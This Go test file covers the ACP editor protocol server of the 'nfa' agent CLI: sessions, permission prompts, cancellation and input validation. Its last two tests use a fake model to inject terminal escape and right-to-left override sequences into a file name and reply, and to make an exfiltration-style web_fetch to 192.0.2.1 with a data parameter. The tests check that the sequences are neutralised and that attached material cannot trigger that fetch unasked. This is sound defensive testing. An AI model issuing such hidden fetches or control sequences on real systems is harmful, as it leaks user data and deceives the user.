package acp_test

import (
	"context"
	"io"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"testing"
	"time"

	protocol "github.com/coder/acp-go-sdk"

	"github.com/nfa-cli/nfa/internal/acp"
	"github.com/nfa-cli/nfa/internal/app"
	"github.com/nfa-cli/nfa/internal/llm"
	"github.com/nfa-cli/nfa/internal/llm/llmtest"
	"github.com/nfa-cli/nfa/internal/tool"
)

// editor is a client that records what the agent says.
type editor struct {
	protocol.Client // panics for what nfa must not ask: files and terminals

	answer protocol.PermissionOptionId

	mu    sync.Mutex
	said  strings.Builder
	user  strings.Builder
	calls []string // title and status
	asked []protocol.RequestPermissionRequest
	names []string // commands
	heard chan struct{}
}

func (e *editor) SessionUpdate(_ context.Context, n protocol.SessionNotification) error {
	e.mu.Lock()
	defer e.mu.Unlock()
	switch u := n.Update; {
	case u.AgentMessageChunk != nil:
		e.said.WriteString(u.AgentMessageChunk.Content.Text.Text)
	case u.UserMessageChunk != nil:
		e.user.WriteString(u.UserMessageChunk.Content.Text.Text)
	case u.ToolCall != nil:
		e.calls = append(e.calls, u.ToolCall.Title+" started")
	case u.ToolCallUpdate != nil:
		e.calls = append(e.calls, strings.Fields(*u.ToolCallUpdate.Title)[0]+" "+string(*u.ToolCallUpdate.Status))
	case u.AvailableCommandsUpdate != nil:
		for _, c := range u.AvailableCommandsUpdate.AvailableCommands {
			e.names = append(e.names, c.Name)
		}
	}
	if e.heard != nil {
		select {
		case e.heard <- struct{}{}:
		default:
		}
	}
	return nil
}

func (e *editor) RequestPermission(_ context.Context, req protocol.RequestPermissionRequest) (protocol.RequestPermissionResponse, error) {
	e.mu.Lock()
	defer e.mu.Unlock()
	e.asked = append(e.asked, req)
	return protocol.RequestPermissionResponse{Outcome: protocol.NewRequestPermissionOutcomeSelected(e.answer)}, nil
}

func (e *editor) text() string {
	e.mu.Lock()
	defer e.mu.Unlock()
	return e.said.String()
}

// connect starts the agent and connects an editor to it. env adds to the settings of sample data.
func connect(t *testing.T, e *editor, env map[string]string) *protocol.ClientSideConnection {
	t.Helper()
	home := t.TempDir()
	t.Setenv("HOME", home)
	t.Setenv("USERPROFILE", home)
	open := func(ctx context.Context, folder string, approver tool.Approver) (*app.App, error) {
		return app.Open(ctx, app.Options{
			CommandLine: app.CommandLine{Home: filepath.Join(home, "nfa"), Folder: folder}, Agent: true, Approver: approver,
			Env: func(name string) string {
				if name == "NFA_DATA" && env == nil {
					return "sample"
				}
				return env[name]
			},
			Now: time.Now, Notice: func(string) {}, Warn: func(string) {},
		})
	}
	toAgent, fromEditor := io.Pipe()
	toEditor, fromAgent := io.Pipe()
	served := make(chan error, 1)
	go func() { served <- acp.Serve(context.WithoutCancel(t.Context()), "test", open, toAgent, fromAgent) }()
	t.Cleanup(func() {
		_ = fromEditor.Close()
		<-served // the agent ends with the connection
		_ = fromAgent.Close()
	})
	c := protocol.NewClientSideConnection(e, fromEditor, toEditor)
	res, err := c.Initialize(t.Context(), protocol.InitializeRequest{ProtocolVersion: protocol.ProtocolVersionNumber})
	if err != nil || !res.AgentCapabilities.LoadSession || res.ProtocolVersion != protocol.ProtocolVersionNumber {
		t.Fatalf("initialize: %+v, %v", res, err)
	}
	return c
}

func newSession(t *testing.T, c *protocol.ClientSideConnection, folder string) protocol.NewSessionResponse {
	t.Helper()
	s, err := c.NewSession(t.Context(), protocol.NewSessionRequest{Cwd: folder, McpServers: []protocol.McpServer{}})
	if err != nil {
		t.Fatal(err)
	}
	return s
}

func prompt(t *testing.T, c *protocol.ClientSideConnection, id protocol.SessionId, blocks ...protocol.ContentBlock) protocol.PromptResponse {
	t.Helper()
	res, err := c.Prompt(t.Context(), protocol.PromptRequest{SessionId: id, Prompt: blocks})
	if err != nil {
		t.Fatal(err)
	}
	return res
}

// modelServer is the environment of a model that plays turns.
func modelServer(t *testing.T, turns ...llmtest.Turn) map[string]string {
	t.Helper()
	server := llmtest.StartServer(llmtest.Answers(turns...)...)
	t.Cleanup(server.Close)
	return map[string]string{"NFA_BASE_URL": server.URL, "NFA_MODEL": "m", "NFA_DATA": "sample"}
}

func toolCall(id, name, args string) llm.ToolCall {
	return llm.ToolCall{ID: id, Name: name, Arguments: args}
}

func TestServe_AnswersAndShowsItsCalls(t *testing.T) {
	e := &editor{}
	c := connect(t, e, modelServer(t,
		llmtest.Call(toolCall("c1", "quote", `{"symbols":["AAPL"]}`)),
		llmtest.Say("AAPL closed at 137.44 USD."),
	))
	s := newSession(t, c, t.TempDir())
	if s.Modes == nil || s.Modes.CurrentModeId != "advisor" || len(s.ConfigOptions) != 1 || s.ConfigOptions[0].Select.CurrentValue != "custom/m" {
		t.Errorf("session: %+v", s)
	}
	res := prompt(t, c, s.SessionId, protocol.TextBlock("price of AAPL"))
	if res.StopReason != protocol.StopReasonEndTurn || res.Meta["nfa"] == nil {
		t.Errorf("response: %+v", res)
	}
	if got := e.text(); !strings.Contains(got, "AAPL closed at 137.44 USD.") || !strings.Contains(got, "1 of 1 figures traced") {
		t.Errorf("said %q", got)
	}
	if got := strings.Join(e.calls, ", "); got != "quote started, quote completed" {
		t.Errorf("calls: %s", got)
	}
	if len(e.names) < 20 {
		t.Errorf("commands: %q", e.names)
	}
	// The session is an ordinary one, and can be shown again.
	list, err := c.ListSessions(t.Context(), protocol.ListSessionsRequest{})
	if err != nil || len(list.Sessions) != 1 || list.Sessions[0].SessionId != s.SessionId {
		t.Fatalf("sessions: %+v, %v", list, err)
	}
	if _, err := c.CloseSession(t.Context(), protocol.CloseSessionRequest{SessionId: s.SessionId}); err != nil {
		t.Fatal(err)
	}
	if _, err := c.LoadSession(t.Context(), protocol.LoadSessionRequest{SessionId: s.SessionId, Cwd: t.TempDir(), McpServers: []protocol.McpServer{}}); err != nil {
		t.Fatal(err)
	}
	if e.user.String() != "price of AAPL" || strings.Count(e.text(), "AAPL closed at") != 2 || len(e.calls) != 4 {
		t.Errorf("replayed %q, %q, %q", e.user.String(), e.text(), e.calls)
	}
}

func TestServe_WithoutAModelTheBuiltInAssistantAnswers(t *testing.T) {
	e := &editor{}
	c := connect(t, e, nil)
	s := newSession(t, c, t.TempDir())
	prompt(t, c, s.SessionId, protocol.TextBlock("price of AAPL"))
	if got := e.text(); !strings.Contains(got, "137.44") {
		t.Errorf("said %q", got)
	}
}

func TestServe_AsksForPermission(t *testing.T) {
	report := toolCall("c1", "write_report", `{"path":"a.md","content":"# A"}`)
	for answer, written := range map[protocol.PermissionOptionId]bool{"once": true, "refuse": false} {
		e := &editor{answer: answer}
		c := connect(t, e, modelServer(t, llmtest.Call(report), llmtest.Say("Done.")))
		folder := t.TempDir()
		s := newSession(t, c, folder)
		prompt(t, c, s.SessionId, protocol.TextBlock("write it"))
		_, err := os.Stat(filepath.Join(folder, "a.md"))
		if len(e.asked) != 1 || (err == nil) != written {
			t.Errorf("%s: asked %d times, file %v; %s", answer, len(e.asked), err, e.calls)
			continue
		}
		last := e.asked[0].Options[len(e.asked[0].Options)-1]
		if e.asked[0].Options[0].Kind != protocol.PermissionOptionKindAllowOnce || last.Kind != protocol.PermissionOptionKindRejectOnce || *e.asked[0].ToolCall.Title == "" {
			t.Errorf("question: %+v", e.asked[0])
		}
	}
}

func TestServe_CancelEndsTheTurn(t *testing.T) {
	e := &editor{heard: make(chan struct{}, 1)}
	hold := make(chan struct{})
	defer close(hold)
	c := connect(t, e, modelServer(t, llmtest.Turn{Text: []string{"I am thinking", " and thinking"}, Hold: hold}))
	s := newSession(t, c, t.TempDir())
	go func() {
		for !strings.Contains(e.text(), "thinking") {
			<-e.heard
		}
		// Another prompt is refused meanwhile.
		_, err := c.Prompt(context.WithoutCancel(t.Context()), protocol.PromptRequest{SessionId: s.SessionId, Prompt: []protocol.ContentBlock{protocol.TextBlock("and?")}})
		if err == nil || !strings.Contains(err.Error(), "-32600") {
			t.Errorf("two prompts at once: %v", err)
		}
		_ = c.Cancel(context.WithoutCancel(t.Context()), protocol.CancelNotification{SessionId: s.SessionId})
	}()
	if res := prompt(t, c, s.SessionId, protocol.TextBlock("think")); res.StopReason != protocol.StopReasonCancelled {
		t.Errorf("stopped by %s", res.StopReason)
	}
}

func TestServe_BadInput(t *testing.T) {
	e := &editor{}
	c := connect(t, e, nil)
	if _, err := c.NewSession(t.Context(), protocol.NewSessionRequest{Cwd: "relative", McpServers: []protocol.McpServer{}}); err == nil || !strings.Contains(err.Error(), "absolute") {
		t.Errorf("a relative folder: %v", err)
	}
	if _, err := c.Prompt(t.Context(), protocol.PromptRequest{SessionId: "nope", Prompt: []protocol.ContentBlock{protocol.TextBlock("x")}}); err == nil || !strings.Contains(err.Error(), "not open") {
		t.Errorf("an unknown session: %v", err)
	}
	if _, err := c.LoadSession(t.Context(), protocol.LoadSessionRequest{SessionId: "nope", Cwd: t.TempDir(), McpServers: []protocol.McpServer{}}); err == nil || !strings.Contains(err.Error(), "open session nope") {
		t.Errorf("a session that does not exist: %v", err)
	}
	s := newSession(t, c, t.TempDir())
	if _, err := c.Prompt(t.Context(), protocol.PromptRequest{SessionId: s.SessionId, Prompt: []protocol.ContentBlock{protocol.ImageBlock("AAAA", "image/png")}}); err == nil || !strings.Contains(err.Error(), "nfa reads text") {
		t.Errorf("a picture: %v", err)
	}
	if _, err := c.SetSessionMode(t.Context(), protocol.SetSessionModeRequest{SessionId: s.SessionId, ModeId: "nobody"}); err == nil {
		t.Error("an unknown agent was accepted")
	}
	if _, err := c.SetSessionMode(t.Context(), protocol.SetSessionModeRequest{SessionId: s.SessionId, ModeId: "analyst"}); err != nil {
		t.Errorf("the analyst: %v", err)
	}
}

// What a hostile model, page or file puts into a question or an answer does not act on the editor's terminal.
func TestServe_ControlSequencesDoNotReachTheEditor(t *testing.T) {
	env := modelServer(t, llmtest.Call(toolCall("a", "write_report", `{"path":"r\u202eevil.md","content":"x"}`)), llmtest.Say("Done \x1b]0;owned\x07\u202e."))
	e := &editor{answer: "refuse"}
	c := connect(t, e, env)
	s := newSession(t, c, t.TempDir())
	prompt(t, c, s.SessionId, protocol.TextBlock("write"))
	if len(e.asked) != 1 {
		t.Fatalf("asked %d times: %s %q", len(e.asked), e.calls, e.text())
	}
	shown := e.text() + *e.asked[0].ToolCall.Title
	for _, content := range e.asked[0].ToolCall.Content {
		shown += content.Content.Content.Text.Text
	}
	if strings.ContainsAny(shown, "\x1b\x07\u202e") || !strings.Contains(shown, `\u202eevil`) || !strings.Contains(shown, "Done ") {
		t.Errorf("the editor receives %q", shown)
	}
}

// What the editor attaches is material: an address in it is not the user's.
func TestServe_AttachmentsAreMaterial(t *testing.T) {
	for _, row := range []struct {
		name   string
		blocks []protocol.ContentBlock
		asks   bool
	}{
		{"typed", []protocol.ContentBlock{protocol.TextBlock("hello")}, false},
		{"a link", []protocol.ContentBlock{protocol.ResourceLinkBlock("letter", "file:///letter")}, true},
	} {
		env := modelServer(t, llmtest.Call(toolCall("a", "web_fetch", `{"url":"http://192.0.2.1/?d=1"}`)), llmtest.Say("Done."))
		e := &editor{answer: "refuse"}
		c := connect(t, e, env)
		s := newSession(t, c, t.TempDir())
		prompt(t, c, s.SessionId, row.blocks...)
		if len(e.asked) > 0 != row.asks {
			t.Errorf("%s: asked %d times", row.name, len(e.asked))
		}
	}
}
